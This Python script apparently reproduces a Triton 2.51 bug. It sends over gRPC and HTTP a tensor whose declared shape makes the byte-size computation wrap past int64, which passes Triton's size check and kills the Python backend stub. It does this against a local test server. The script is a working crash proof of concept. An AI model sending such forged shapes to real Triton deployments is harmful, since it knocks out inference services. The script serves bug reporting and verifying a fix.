"""Reproduce Triton 2.51's stub death on a declared shape whose byte size wraps.

Starts a bare embedded tritonserver (no launcher, no supervisor) on free loopback ports with
one Python model, `probe` (input X FP64 [-1, 6], max_batch_size 64), whose `execute` logs a
line and answers zeros without reading its input: no project code at all. Then sends, over
gRPC and HTTP binary, 8 rows of X (384 bytes) declared as shape [1, 8, 6] (served) and as
[1, 8 + 2^60, 6], whose byte size 48 * (8 + 2^60) overflows int64 onto 384: Triton's size
check passes, and the stub aborts (`std::terminate` on numpy's "array is too big", thrown by
`PbTensor`'s constructor in `Stub::LoadRequestsFromSharedMemory`) before `execute` is called.
Prints what each request got, whether `execute` ran, and the stub's pid before and after.

    .venv/bin/python scripts/repro_shape_wrap.py [grpc|http ...]   (default: grpc http)

A patched Triton should refuse the second request with INVALID_ARGUMENT and keep its stub.
"""

from __future__ import annotations

import sys
import tempfile
import time
from pathlib import Path

import numpy as np
import tritonclient.grpc as grpcclient
import tritonclient.http as httpclient
from tritonclient.utils import InferenceServerException

from dispatch_service.ops.server import Ports, ServerOptions, TritonRuntime, TritonServer
from dispatch_service.ops.stubs import stub_models

CONFIG = """name: "probe"
backend: "python"
max_batch_size: 64
input [ { name: "X", data_type: TYPE_FP64, dims: [ -1, 6 ] } ]
output [ { name: "Y", data_type: TYPE_FP64, dims: [ 1 ] } ]
instance_group [ { count: 1, kind: KIND_CPU } ]
"""
MODEL = """import numpy as np
import triton_python_backend_utils as pb_utils


class TritonPythonModel:
    def execute(self, requests):
        pb_utils.Logger.log_warn(f"probe execute called with {len(requests)} request(s)")
        return [
            pb_utils.InferenceResponse(output_tensors=[pb_utils.Tensor("Y", np.zeros((1, 1)))])
            for _ in requests
        ]
"""
WRAP = 8 + (1 << 60)  # 48 * WRAP == 384 (mod 2^64)


def send(protocol: str, server: TritonServer, rows: int) -> str:
    data = np.zeros((1, 8, 6))
    try:
        if protocol == "grpc":
            grpc = grpcclient.InferenceServerClient(server.grpc_url)
            tensor = grpcclient.InferInput("X", [1, 8, 6], "FP64")
            tensor.set_data_from_numpy(data)
            del tensor._input.shape[:]  # the declared shape, as a hostile client sends it
            tensor._input.shape.extend([1, rows, 6])
            grpc.infer("probe", [tensor], client_timeout=20)
        else:
            http = httpclient.InferenceServerClient(server.http_url, network_timeout=20)
            item = httpclient.InferInput("X", [1, 8, 6], "FP64")
            item.set_data_from_numpy(data, binary_data=True)
            item._shape = [1, rows, 6]
            http.infer("probe", [item])
    except InferenceServerException as exc:
        return f"{exc.status()}: {str(exc)[:160]}"
    return "served"


def main(argv: list[str]) -> int:
    protocols = argv or ["grpc", "http"]
    folder = Path(tempfile.mkdtemp(prefix="shape_wrap_"))
    (folder / "repo" / "probe" / "1").mkdir(parents=True)
    (folder / "repo" / "probe" / "config.pbtxt").write_text(CONFIG)
    (folder / "repo" / "probe" / "1" / "model.py").write_text(MODEL)
    log = folder / "server.log"
    options = ServerOptions(model_repository=folder / "repo", ports=Ports.free())
    with TritonServer(TritonRuntime.from_venv(), options, log) as server:
        assert server.process is not None
        for protocol in protocols:
            before = sorted(stub_models(server.process.pid))
            calls = log.read_text().count("probe execute called")
            ok = send(protocol, server, 8)
            wrapped = send(protocol, server, WRAP)
            time.sleep(1.0)
            after = sorted(stub_models(server.process.pid))
            ran = log.read_text().count("probe execute called") - calls
            print(f"{protocol}: [1, 8, 6] -> {ok}")
            print(f"{protocol}: [1, 8 + 2^60, 6] (384 bytes) -> {wrapped}")
            print(f"{protocol}: execute ran {ran} time(s); stubs before {before}, after {after}")
            if after != before:
                print(f"{protocol}: the stub died before execute (log: {log})")
                break  # a bare 2.51 never replaces it: the next request would fail the same
    text = log.read_text()
    for line in text.splitlines():
        if "terminate called" in line or "what():" in line:
            print(f"server log: {line.strip()}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
